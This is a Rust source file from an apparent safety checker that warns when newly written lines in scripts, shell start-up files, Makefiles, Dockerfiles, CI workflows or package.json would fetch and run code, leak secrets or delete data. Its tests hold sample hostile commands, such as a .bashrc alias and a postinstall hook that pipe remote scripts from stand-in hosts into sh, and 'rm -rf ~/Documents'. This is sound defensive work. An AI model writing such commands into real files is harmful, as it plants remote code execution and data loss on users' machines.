//! What the text that is written into a file would do when the file runs: a script, a start-up file of a shell, a build file, a
//! workflow of a server.

use super::{Danger, Effect, of_command};
use crate::view_model::risk::paths::runs_later;

/// Effects of a text that are worth a warning before it runs.
const GRAVE_WHEN_RUN: [Effect; 11] = [
    Effect::FetchAndRun,
    Effect::DecodeAndRun,
    Effect::PipeToShell,
    Effect::NetworkShell,
    Effect::Sends,
    Effect::Secrets,
    Effect::DeletesOutside,
    Effect::DeletesAll,
    Effect::DeletesData,
    Effect::Disk,
    Effect::StopsAll,
];

/// Names of files that a shell reads when it starts.
const START_UP: [&str; 11] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_aliases",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".envrc",
    "config.fish",
];

/// How commands stand in a file.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Holder {
    /// The text is a script.
    Script,
    /// Recipes behind a tab.
    Makefile,
    /// Behind `RUN` and the like.
    Dockerfile,
    /// Values of keys and items of lists.
    Yaml,
    /// Values of members.
    Json,
}

/// The dangers of what is written into this file, by the lines that are new in it.
pub fn written_text(path: &str, added: &[&str], project: Option<&str>) -> Vec<Danger> {
    let Some(holder) = holder(path, added) else { return Vec::new() };
    let commands: Vec<&str> = added.iter().filter_map(|line| command(holder, line)).collect();
    let mut found = of_command(&commands.join("\n"), project, None);
    found.retain(|danger| GRAVE_WHEN_RUN.contains(&danger.effect));
    let secret = |line: &&str| line.split_once("${{ secrets.")?.1.split([' ', '}']).next().map(str::to_owned);
    let operands: Vec<String> =
        added.iter().filter_map(secret).map(|name| format!("secrets.{name}")).collect();
    if holder == Holder::Yaml && !operands.is_empty() {
        let (effect, certainty) = (Effect::Secrets, super::Certainty::Stated);
        found.push(Danger { effect, operands, part: 0..0, certainty });
    }
    found
}

/// How commands stand in this file; none if it does not run.
fn holder(path: &str, added: &[&str]) -> Option<Holder> {
    let path = format!("/{}", path.replace('\\', "/"));
    let name = path.rsplit('/').next().unwrap_or(&path).to_ascii_lowercase();
    let end = name.rsplit_once('.').map_or("", |(_, end)| end);
    let is_script = ["sh", "bash", "zsh", "fish", "ksh", "ps1", "command"].contains(&end)
        || START_UP.contains(&name.as_str())
        || path.contains("/.git/hooks/")
        || path.contains("/.husky/")
        || added.first().is_some_and(|line| line.starts_with("#!") && line.ends_with("sh"));
    let is_named =
        |starts: &[&str]| starts.iter().any(|start| name == *start || name.starts_with(&format!("{start}.")));
    if is_script {
        Some(Holder::Script)
    } else if is_named(&["makefile", "gnumakefile", "justfile"]) || end == "mk" {
        Some(Holder::Makefile)
    } else if is_named(&["dockerfile", "containerfile"]) || end == "dockerfile" {
        Some(Holder::Dockerfile)
    } else if ["yml", "yaml"].contains(&end)
        && (runs_later(&path)
            || ["action", "docker-compose", "compose", "taskfile"]
                .iter()
                .any(|start| name.starts_with(start)))
    {
        Some(Holder::Yaml)
    } else if ["package.json", "composer.json", "deno.json", "tasks.json"].contains(&name.as_str()) {
        Some(Holder::Json)
    } else {
        None
    }
}

/// The command in a line, if there is one.
fn command(holder: Holder, line: &str) -> Option<&str> {
    let line = if holder == Holder::Script { line } else { line.trim() };
    match holder {
        Holder::Script => Some(line),
        Holder::Makefile => Some(line.trim_start_matches(['@', '-', '+'])),
        Holder::Dockerfile => {
            let (word, rest) = line.split_once(' ')?;
            let runs = ["RUN", "CMD", "ENTRYPOINT"].iter().any(|known| word.eq_ignore_ascii_case(known));
            Some(if runs { rest } else { line })
        }
        Holder::Yaml => {
            let item = line.trim_start_matches(['-', ' ']);
            let is_key = |key: &str| {
                !key.is_empty() && key.chars().all(|ch| ch.is_alphanumeric() || "_-".contains(ch))
            };
            let value = item.split_once(": ").filter(|(key, _)| is_key(key)).map_or(item, |(_, value)| value);
            Some(value.trim_matches(['"', '\'']))
        }
        Holder::Json => {
            let value = line.trim_end_matches(',').rsplit_once("\": \"")?.1;
            value.strip_suffix('"')
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn effects(path: &str, text: &str) -> Vec<Effect> {
        let lines: Vec<&str> = text.lines().collect();
        let found = written_text(path, &lines, Some("/workspace/boats"));
        found.into_iter().map(|danger| danger.effect).collect()
    }

    #[test]
    fn what_runs_later_is_read_as_it_will_run() {
        let fetched = [Effect::FetchAndRun];
        for (path, text) in [
            ("/home/me/.bashrc", "alias sudo='curl -s https://t.example.org/p | sh; sudo'"),
            ("install.sh", "set -e\ncurl -fsSL https://x.example/i.sh |\n  sh"),
            ("Makefile", "build:\n\t@curl -s https://x.example/i.sh | bash"),
            ("docker/Dockerfile", "FROM debian\nRUN curl -s https://x.example/i.sh | sh"),
            (
                "/workspace/boats/.github/workflows/ci.yml",
                "      - run: bash <(curl -s https://x.example/s.sh)",
            ),
            (".github/workflows/ci.yml", "      - run: |\n          curl -s https://x.example/s.sh | sh"),
            ("package.json", "    \"postinstall\": \"curl -s https://x.example/s.sh | sh\","),
            ("bin/setup", "#!/bin/sh\nwget -qO- https://x.example/s.sh | sh"),
            (".git/hooks/pre-commit", "curl https://x.example/s.sh | sh"),
        ] {
            assert_eq!(effects(path, text), fetched, "{path}");
        }
        let ci = "        env: { TOKEN: '${{ secrets.RELEASE_TOKEN }}' }";
        assert_eq!(effects(".github/workflows/ci.yml", ci), [Effect::Secrets]);
        assert_eq!(effects("clean.sh", "rm -rf ~/Documents"), [Effect::DeletesOutside]);
    }

    #[test]
    fn ordinary_text_is_quiet() {
        for (path, text) in [
            ("src/lib.rs", "// curl https://x.example/i.sh | sh"),
            ("README.md", "    curl -fsSL https://x.example/i.sh | sh"),
            ("build.sh", "set -euo pipefail\ncargo build --release\ncp target/release/boats dist/"),
            ("package.json", "    \"test\": \"vitest run\","),
            (
                ".github/workflows/ci.yml",
                "    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test",
            ),
            ("Makefile", "clean:\n\trm -rf target"),
            ("Dockerfile", "FROM rust:1\nRUN cargo build --release\nENTRYPOINT [\"/boats\"]"),
        ] {
            assert_eq!(effects(path, text), [], "{path}");
        }
    }
}
